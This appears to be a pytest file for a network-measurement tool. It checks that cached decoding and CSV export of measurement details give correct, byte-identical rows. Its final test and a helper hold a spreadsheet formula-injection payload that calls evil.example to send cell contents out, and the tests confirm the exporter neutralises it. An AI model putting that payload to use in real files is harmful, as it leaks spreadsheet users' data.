"""The measurements CSV with its caches of details: the store decodes a details column once per
distinct stored text (probe.store.database._stored_details) and the CSV writer encodes a
details_json cell once per record (analysis.export.write_measurements_csv). Rows that share
details must still be exported as their own rows, rows whose details differ by one character
must never get each other's, the file must be byte-identical to the uncached writer's (also
when the caches overflow and start again), and hostile text in shared details stays inert."""

from __future__ import annotations

import csv
import io
import json
import random
from collections.abc import Iterator, Sequence
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

import analysis.export
import probe.store.database
from analysis.export import (
    measurement_rows,
    write_measurements_csv,
)
from probe.codec import StoredDetails, decode_details_column, encode_details
from probe.model import (
    Certificate,
    Details,
    DifferentialKind,
    DnsAnswer,
    DnsQuery,
    HttpTransaction,
    Layer,
    Measurement,
    RawCapture,
    TcpConnect,
    TlsHandshake,
)
from probe.store import Store
from tests.export_store import ThroughRecords, reference_csv
from tests.store_rows import T0, make_measurement, make_run


@pytest.fixture
def store(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Store]:
    # The store's cache is the process's: each test starts from an empty one.
    probe.store.database._DETAILS_CACHE.clear()
    probe.store.database._ENCODED_CACHE.clear()
    monkeypatch.setattr(probe.store.database, "_details_cache_chars", 0)
    monkeypatch.setattr(probe.store.database, "_encoded_cache_chars", 0)
    with Store.open(tmp_path / "probe.db") as opened:
        yield opened


def _uncached(layer: Layer, text: Any) -> StoredDetails:
    """What the store did before it cached: decode every column afresh."""
    return decode_details_column(layer, json.loads(text))


def _csv(store: Store) -> str:
    out = io.StringIO()
    write_measurements_csv(store, out)
    return out.getvalue()


def _by_id(text: str) -> dict[str, dict[str, str]]:
    return {row["measurement_id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def _save(
    store: Store, details: Sequence[tuple[Layer, Details]], asn: int | None = None
) -> list[Measurement]:
    run = make_run(store.probe_id(), asn=asn, country=None if asn is None else "IR")
    store.start_run(run)
    measurements = [
        make_measurement(
            run.id,
            target=f"target-{i}",
            layer=layer,
            endpoint=f"endpoint-{i}",
            started_at=T0 + timedelta(seconds=i),
            details=record,
        )
        for i, (layer, record) in enumerate(details)
    ]
    store.save_measurements(measurements)
    return measurements


def test_rows_with_identical_details_share_one_decoded_record_yet_export_as_their_own_rows(
    store: Store,
) -> None:
    shared = TlsHandshake("149.154.175.50", 443, "t.me", version="TLSv1.3", verified=True)
    saved = _save(store, [(Layer.TLS, shared)] * 5)
    read = list(store.measurements())
    assert len({id(m.observation.details) for m in read}) == 1  # decoded once
    assert len({id(row.details) for row in store.measurement_rows()}) == 1  # read once
    rows = _by_id(_csv(store))
    assert len(rows) == 5
    for measurement in saved:
        row = rows[measurement.id]
        assert row["target"] == measurement.target
        assert row["endpoint"] == measurement.observation.endpoint
        assert row["tls_version"] == "TLSv1.3"
        assert json.loads(row["details_json"]) == encode_details(shared)


def test_details_that_differ_in_one_character_are_never_given_each_others_cells(
    store: Store,
) -> None:
    variants: list[tuple[Layer, Details]] = [
        (Layer.TCP, TcpConnect("10.0.0.1", 443)),
        (Layer.TCP, TcpConnect("10.0.0.1", 444)),
        (Layer.TCP, TcpConnect("10.0.0.2", 443)),
        (Layer.HTTP, HttpTransaction("https://a.example/", status=200, title="a")),
        (Layer.HTTP, HttpTransaction("https://a.example/", status=200, title="b")),
        (Layer.HTTP, HttpTransaction("https://a.example/", status=200, title="a ")),
        (Layer.DNS, DnsQuery("a.example", "udp://9.9.9.9:53", "udp", addresses=("1.2.3.4",))),
        (Layer.DNS, DnsQuery("a.example", "udp://9.9.9.9:53", "udp", addresses=("1.2.3.5",))),
    ]
    # Interleaved and repeated, so each text is met again after the others.
    order = [variants[i % len(variants)] for i in range(3 * len(variants))]
    saved = _save(store, order)
    read = {m.id: m for m in store.measurements()}
    rows = _by_id(_csv(store))
    for measurement in saved:
        details = measurement.observation.details
        assert read[measurement.id].observation.details == details
        assert json.loads(rows[measurement.id]["details_json"]) == encode_details(details)
    assert {rows[m.id]["http_title"] for m in saved if m.observation.layer is Layer.HTTP} == {
        "a",
        "b",
    }  # "a " is a title of its own, its whitespace collapsed in the cell
    titles = [json.loads(rows[m.id]["details_json"]).get("title") for m in saved]
    assert titles.count("a ") == 3 and titles.count("a") == 3


def test_identical_raw_captures_are_decoded_for_each_row(store: Store) -> None:
    capture = RawCapture(
        available=True,
        evidence="dns_packets",
        differential_kind=DifferentialKind.RAW,
        capture={"responses": [{"ttl": 52, "answers": ["10.10.34.34"]}]},
    )
    _save(store, [(Layer.DNS, capture)] * 2)
    first, second = (m.observation.details for m in store.measurements())
    assert first == second == capture
    assert first is not second  # its capture holds JSON lists and dicts: never shared


def _varied(rng: random.Random, i: int) -> tuple[Layer, Details]:
    """Details of every kind, most distinct, some repeating (an hour's run of the same targets)."""
    n = rng.randrange(40) if rng.random() < 0.5 else i
    kind = n % 4
    if kind == 0:
        return Layer.TCP, TcpConnect(f"10.{n % 7}.{n // 7 % 250}.{n % 250}", 443 + n % 3)
    if kind == 1:
        name = f"host{n}.example"
        return Layer.DNS, DnsQuery(
            name,
            "udp://185.51.200.2:53",
            "udp",
            rcode="NOERROR",
            addresses=(f"10.10.{n % 250}.34",),
            answers=(DnsAnswer("A", f"10.10.{n % 250}.34", 60 + n, name),),
        )
    if kind == 2:
        return Layer.TLS, TlsHandshake(
            "157.240.1.35",
            443,
            f"sni{n}.example",
            version="TLSv1.3",
            certificates=(Certificate(f"{n:064x}", f"CN=sni{n}.example", "CN=R3"),),
            handshake_ms=round(rng.uniform(10, 900), 3) if n == i else 48.5,
        )
    title = rng.choice(["Blocked", '=HYPERLINK("x")', "-1", 'ok, "quoted"\nline', "é\u2028x"])
    return Layer.HTTP, HttpTransaction(
        f"https://site{n}.example/",
        status=200 + n % 300,
        title=title,
        headers=(("Server", f"s{n}"),),
        body_prefix="<html>" + "x" * (n % 50),
    )


@pytest.mark.parametrize(("entries", "cells"), [(1024, 1024), (3, 2)])
def test_csv_with_the_caches_equals_the_uncached_csv_on_a_store_of_varied_details(
    store: Store, monkeypatch: pytest.MonkeyPatch, entries: int, cells: int
) -> None:
    rng = random.Random(16)
    # Two runs on two networks, so the same details sit beside different run cells.
    for asn in (58224, 3320):
        _save(store, [_varied(rng, i) for i in range(300)], asn)
    monkeypatch.setattr(probe.store.database, "_DETAILS_CACHE_ENTRIES", entries)
    monkeypatch.setattr(analysis.export, "_DETAILS_CELLS", cells)
    cached = _csv(store)
    assert len(probe.store.database._ENCODED_CACHE) <= entries
    with monkeypatch.context() as uncached:
        uncached.setattr(probe.store.database, "_stored_details", _uncached)
        expected = reference_csv(list(measurement_rows(ThroughRecords(store))))
    assert len(probe.store.database._DETAILS_CACHE) <= entries
    assert cached == expected
    assert cached.count("\n") == 601
    assert ",'=HYPERLINK" in cached or ",\"'=HYPERLINK" in cached


def test_the_details_cache_keeps_at_most_its_characters(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(probe.store.database, "_DETAILS_CACHE_CHARS", 3000)
    big = [
        (Layer.HTTP, HttpTransaction(f"https://{i}.example/", body_prefix=str(i) * 900))
        for i in range(10)
    ]
    saved = _save(store, big + big)
    read = {m.id: m for m in store.measurements()}
    kept = sum(len(text) for _, text in probe.store.database._DETAILS_CACHE)
    assert 0 < kept <= 3000
    assert all(read[m.id].observation.details == m.observation.details for m in saved)


def test_hostile_titles_shared_by_many_rows_stay_inert_in_every_row(store: Store) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    shared = HttpTransaction("https://example.org/", status=200, title=formula, body_length=10)
    saved = _save(store, [(Layer.HTTP, shared)] * 4 + [(Layer.TCP, TcpConnect("1.2.3.4", 1))])
    rows = _by_id(_csv(store))
    for measurement in saved[:4]:
        row = rows[measurement.id]
        assert row["http_title"] == "'" + formula
        assert json.loads(row["details_json"])["title"] == formula  # the JSON keeps it as it is
    assert rows[saved[4].id]["http_title"] == ""
